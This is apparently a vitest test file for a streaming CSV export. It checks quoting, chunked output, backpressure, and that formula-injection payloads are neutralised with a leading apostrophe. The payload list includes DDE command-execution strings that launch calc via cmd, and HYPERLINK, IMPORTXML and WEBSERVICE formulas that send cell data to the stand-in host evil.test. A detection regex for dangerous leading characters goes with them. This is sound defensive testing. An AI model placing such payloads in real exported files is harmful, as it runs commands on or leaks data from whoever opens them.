import { describe, expect, test } from 'vitest'
import type { Cell } from '#app/domain/lists/description.ts'
import { streamCsv } from './csv.server.ts'

async function write(rows: Cell[][], head = ['A']) {
  async function* pages() {
    for (const row of rows) yield await Promise.resolve([row])
  }
  return Buffer.from(await new Response(streamCsv(head, pages())).arrayBuffer()).toString('utf8')
}

/** A plain reader of RFC 4180. */
function parse(text: string): string[][] {
  const rows: string[][] = []
  let [row, cell, isQuoted] = [[] as string[], '', false]
  const body = text.replace(/^\uFEFF/, '')
  for (let index = 0; index < body.length; index++) {
    const [character, next] = [body[index]!, body[index + 1]]
    if (isQuoted) {
      if (character === '"' && next === '"') index++
      else if (character === '"') {
        isQuoted = false
        continue
      }
      cell += character
    } else if (character === '"' && cell === '') isQuoted = true
    else if (character === ',') {
      row.push(cell)
      cell = ''
    } else if (character === '\r' && next === '\n') {
      rows.push([...row, cell])
      ;[row, cell] = [[], '']
      index++
    } else cell += character
  }
  return rows
}

const formulas = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.test?x="&A1,"Click")',
  '=IMPORTXML(CONCAT("https://evil.test",A1),"//a")',
  '=WEBSERVICE("https://evil.test")',
  '=DDE("cmd";"/C calc";"!A0")',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '@A1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '\tplain',
  '\rplain',
  '\nplain',
  ' =1+1',
  '   +1+1',
  ' \t \n=1+1',
  '\u00a0=1+1',
  '\u2003=1+1',
  '\u3000=1+1',
  '\u200b=1+1',
  '\u200e=1+1',
  '\u202e=1+1',
  '\ufeff=1+1',
  '\u0000=1+1',
  '\u0007=1+1',
  '\u2028=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  ' ＝1+1',
  '\u200b＠A1',
  '﹦1+1',
  '﹢1+1',
  '﹣1+1',
  '﹫SUM(1)',
  ' ﹦1+1',
  '=1+1,=2+2',
  '="a\nb"',
  '=1+1;=2+2',
  '=',
  '-',
  '+',
  '@',
]
const dangerous = /^[\p{Z}\p{C}]*[=+\-@＝＋－＠﹦﹢﹣﹫\t\r\n]/u

describe('a cell that a spreadsheet would run', () => {
  test.each(formulas)('%j is plain text, alone and behind others', async (formula) => {
    expect(dangerous.test(formula) || /^[\t\r\n]/.test(formula)).toBe(true)
    const text = await write([[formula], ['x', formula, 'y'], [formula, formula]] as Cell[][])
    const rows = parse(text)
    expect(rows.slice(1)).toEqual([[`'${formula}`], ['x', `'${formula}`, 'y'], [`'${formula}`, `'${formula}`]])
    for (const cell of rows.flat()) expect(cell).not.toMatch(dangerous)
  })

  test('as a heading it is plain text too', async () => expect(parse(await write([], ['=A1']))).toEqual([["'=A1"]]))
})

describe('what is no formula', () => {
  test.each([
    'plain',
    '',
    "'",
    '1',
    'a=b',
    'O’Brien',
    'a, b',
    'say "hi"',
    'two\nlines',
    'x;=1',
    'ivy@people.test',
    '-5',
    '£3,000',
    '日本語',
    '😀',
  ])('%j stays as it is', async (text) => expect(parse(await write([[text, 'end']]))[1]).toEqual([text, 'end']))

  test('numbers stay numbers, below zero too; nothing is empty; yes is yes', async () => {
    expect(await write([[3000, -12.5, 0, null, true, false]])).toBe('\uFEFFA\r\n3000,-12.5,0,,yes,no\r\n')
    expect(await write([['−2.5', '−£3,000', '−3.2%']])).toBe('\uFEFFA\r\n-2.5,"-£3,000",-3.2%\r\n')
  })
  test('another separator is kept inside quotes', async () => expect(await write([['a;=b']])).toContain('"a;=b"'))
})

test.each(['a\nb', 'a\rb', 'a\tb', 'a;b', 'a,b', 'a"b'])('%j is set in quotes', async (text) => {
  expect(await write([[text, 'end']])).toBe(`\uFEFFA\r\n"${text.replace('"', '""')}",end\r\n`)
})

test('a long page is sent in pieces', async () => {
  async function* pages() {
    yield await Promise.resolve(Array.from({ length: 1000 }, () => ['x'.repeat(999)]))
  }
  const reader = streamCsv(['A'], pages()).getReader()
  const sizes: number[] = []
  for (let part = await reader.read(); !part.done; part = await reader.read()) sizes.push(part.value.length)
  expect(Math.max(...sizes)).toBeLessThan(70_000)
  expect(sizes.reduce((sum, size) => sum + size, 0)).toBe(6 + 1001 * 1000)
})

test('a row is made when its line is written, and not with all of its page', async () => {
  let made = 0
  function* rows(): Generator<Cell[]> {
    for (; made < 100; made += 1) yield ['x'.repeat(10_000)]
  }
  async function* pages() {
    yield await Promise.resolve(rows())
  }
  const reader = streamCsv(['A'], pages()).getReader()
  await reader.read()
  expect(made).toBeLessThan(20)
  await reader.cancel()
})

test('others have their turn between two pages', async () => {
  async function* pages() {
    for (let page = 0; page < 20; page += 1) yield await Promise.resolve([[page]])
  }
  let turns = 0
  const count = setInterval(() => (turns += 1), 0)
  const immediate = () => (turns += 1) < 1000 && setImmediate(immediate)
  immediate()
  await new Response(streamCsv(['A'], pages())).text()
  clearInterval(count)
  expect(turns).toBeGreaterThan(15)
})

test('no rows are a heading alone', async () => expect(await write([], ['A', 'B'])).toBe('\uFEFFA,B\r\n'))

test('rows are read only as fast as they are taken, and no longer than somebody takes them', async () => {
  let [made, isEnded] = [0, false]
  async function* pages() {
    try {
      for (;;) yield await Promise.resolve([[`${++made}`.padEnd(100_000, '.')]])
    } finally {
      isEnded = true
    }
  }
  const reader = streamCsv(['A'], pages()).getReader()
  await reader.read()
  await reader.read()
  expect(made).toBeLessThan(5)
  await reader.cancel()
  expect(isEnded).toBe(true)
})
